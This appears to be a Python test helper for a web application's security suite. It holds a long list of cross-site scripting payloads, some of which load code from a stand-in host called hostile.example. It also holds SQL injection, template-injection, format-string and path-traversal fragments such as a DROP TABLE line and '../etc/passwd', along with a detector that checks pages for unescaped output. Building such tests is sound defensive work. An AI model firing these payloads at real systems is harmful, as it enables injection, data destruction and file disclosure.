"""Words that become something else where a page forgets to escape them, and how a page is read for them."""

from collections.abc import Sequence
from typing import Any, Final
from urllib.parse import urlsplit

from tests.security.house import Answer, page_of

MARK: Final = "hostile"
"""What each of them would make: an element or attribute of this name, or a call of a function so named."""

PAYLOADS: Final = (
    "<script>hostile(1)</script>",
    "<ScRiPt>hostile(2)</sCrIpT>",
    "<script src=//hostile.example/x.js></script>",
    "<script/hostile>hostile(4)</script>",
    "<<script>hostile(5)//<</script>",
    "</script><script>hostile(6)</script>",
    "</title><script>hostile(7)</script>",
    "</textarea><script>hostile(8)</script>",
    "</style><script>hostile(9)</script>",
    "--><script>hostile(10)</script><!--",
    "]]><script>hostile(11)</script>",
    "<img src=x onerror=hostile(12)>",
    "<img src=x onerror='hostile(13)'>",
    '<img src="x" onerror="hostile(14)">',
    "<img/src=x/onerror=hostile(15)>",
    "<img src=`x` onerror=`hostile(16)`>",
    "<IMG SRC=javascript:hostile(17)>",
    "<img src=1 href=1 onerror='javascript:hostile(18)'></img>",
    "<image src=x onerror=hostile(19)>",
    "<svg onload=hostile(20)>",
    "<svg/onload=hostile(21)//",
    "<svg><script>hostile(22)</script></svg>",
    "<svg><animate onbegin=hostile(23) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hostile(24)'><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hostile(25)>",
    "<math href='javascript:hostile(26)'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hostile(27)>",
    "<body onload=hostile(28)>",
    "<iframe src=javascript:hostile(29)></iframe>",
    "<iframe srcdoc='<script>hostile(30)</script>'></iframe>",
    "<object data=javascript:hostile(31)></object>",
    "<embed src=javascript:hostile(32)>",
    "<form action=javascript:hostile(33)><button>x</button></form>",
    "<button formaction=javascript:hostile(34)>x</button>",
    "<input onfocus=hostile(35) autofocus>",
    "<select onfocus=hostile(36) autofocus></select>",
    "<textarea onfocus=hostile(37) autofocus>",
    "<details open ontoggle=hostile(38)>x</details>",
    "<video><source onerror=hostile(39)></video>",
    "<audio src=x onerror=hostile(40)>",
    "<marquee onstart=hostile(41)>x</marquee>",
    "<a href=javascript:hostile(42)>x</a>",
    "<a href='java\tscript:hostile(43)'>x</a>",
    "<a href='&#106;avascript:hostile(44)'>x</a>",
    "<a href=data:text/html,<script>hostile(45)</script>>x</a>",
    "<base href=//hostile.example/>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hostile(48)'>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<div style='background:url(javascript:hostile(50))'>x</div>",
    "<xml:namespace prefix=t><import namespace=t implementation=#hostile>",
    "<template><script>hostile(52)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hostile(53)>'>",
    "\" onmouseover=hostile(54) x=\"",
    "' onmouseover=hostile(55) x='",
    "\" autofocus onfocus=hostile(56) hostile=\"",
    "' autofocus onfocus=hostile(57) hostile='",
    "\"><hostile-element>x</hostile-element>",
    "'><hostile-element>x</hostile-element>",
    "\" hostile=1 \"",
    " onmouseover=hostile(61) hostile=1 ",
    "javascript:hostile(62)",
    "&lt;script&gt;hostile(63)&lt;/script&gt;",
    "&#60;script&#62;hostile(64)&#60;/script&#62;",
    "%3Cscript%3Ehostile(65)%3C/script%3E",
    "\\u003cscript\\u003ehostile(66)\\u003c/script\\u003e",
    "＜script＞hostile(67)＜/script＞",
    "- <script>hostile(68)</script>\n\n- **<img src=x onerror=hostile(69)>**",
    "[x](javascript:hostile(70))",
    "{{ constructor.constructor('hostile(71)')() }}",
)  # fmt: skip

PRODUCT: Final = "62615533"
"""What 7919 × 7907 comes to, where something is worked out that only should be shown."""
FRAGMENTS: Final = (
    "' OR '1'='1",
    "'); DROP TABLE people_person; --",
    '" UNION SELECT password FROM people_person --',
    "1; SELECT pg_sleep(9)",
    "%' AND 1=CAST((SELECT 1) AS int) --",
    "\\'; --",
    '"a" OR NEAR(b c) NOT * AND ^x:y',
    "{{7919*7907}}",
    "{% print 7919*7907 %}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "{7919*7907!r}",
    "{0.__class__.__mro__}",
    "%(password)s %s %n",
    "{{config}} {{self.__init__.__globals__}}",
    "../../../../etc/passwd",
    "\u202e\ud7ff\ufdd0",
    "a\x00b",
)
"""Words that do something where they are run as SQL, as a template or as a format."""

FORBIDDEN: Final = {
    "applet",
    "audio",
    "base",
    "embed",
    "frame",
    "frameset",
    "iframe",
    "image",
    "marquee",
    "math",
    "noscript",
    "object",
    "source",
    "style",
    "template",
    "video",
}
"""Elements that no page of ours has."""

UNLIKE_TEXT: Final = tuple(one for one in PAYLOADS if set(one) & set("<>\"'"))
"""Those that a page which escapes never holds as they were typed."""

LEADING: Final = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset")


def made_by_payloads(response: Answer) -> list[str]:
    """What stands in a page that only words which were not escaped can have put there."""
    if "html" not in response.headers.get("Content-Type", ""):
        return []
    text = response.content.decode("utf-8", "replace")
    found = [f"as it was typed: {one}" for one in UNLIKE_TEXT if one in text]
    for element in page_of(response).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        if tag in FORBIDDEN or MARK in tag or tag.startswith("xml"):
            found.append(f"<{tag}>")
        if tag == "script" and not str(element.get("src", "")).startswith("/static/"):
            found.append(f"<script> {element.text}")
        if tag == "meta" and element.get("http-equiv") and not element.get("content", "").isdigit():
            found.append("<meta http-equiv>")
        found += [f"{name} of <{tag}>" for name in element.attrib if _is_bad(str(name))]
        found += [
            f"{name}={element.get(name)!r} of <{tag}>"
            for name in LEADING
            if not _leads_somewhere_safe(str(element.get(name, "")))
        ]
    return found


def _is_bad(name: str) -> bool:
    return name.lower().startswith("on") or MARK in name or name in {"style", "srcdoc", "autofocus"}


def _leads_somewhere_safe(address: str) -> bool:
    bare = "".join(sign for sign in address if sign > " ").lower()
    if bare.startswith(("javascript:", "vbscript:")):
        return False
    if bare.startswith("data:"):
        return bare.startswith("data:image/")
    return MARK not in (urlsplit(bare).hostname or "")


def written(turn: int, payloads: Sequence[str] = PAYLOADS) -> Any:
    """Fills each field with as many payloads as go into it, beginning where the last field stopped."""
    at = turn

    def write(_name: str, most: int) -> str:
        nonlocal at
        text = payloads[at % len(payloads)]
        at += 1
        while len(text) > most:  # a short field gets one that fits
            text = payloads[at % len(payloads)]
            at += 1
        for _ in range(len(payloads)):
            longer = f"{text} {payloads[at % len(payloads)]}"
            if len(longer) > most:
                break
            text, at = longer, at + 1
        return text

    return write
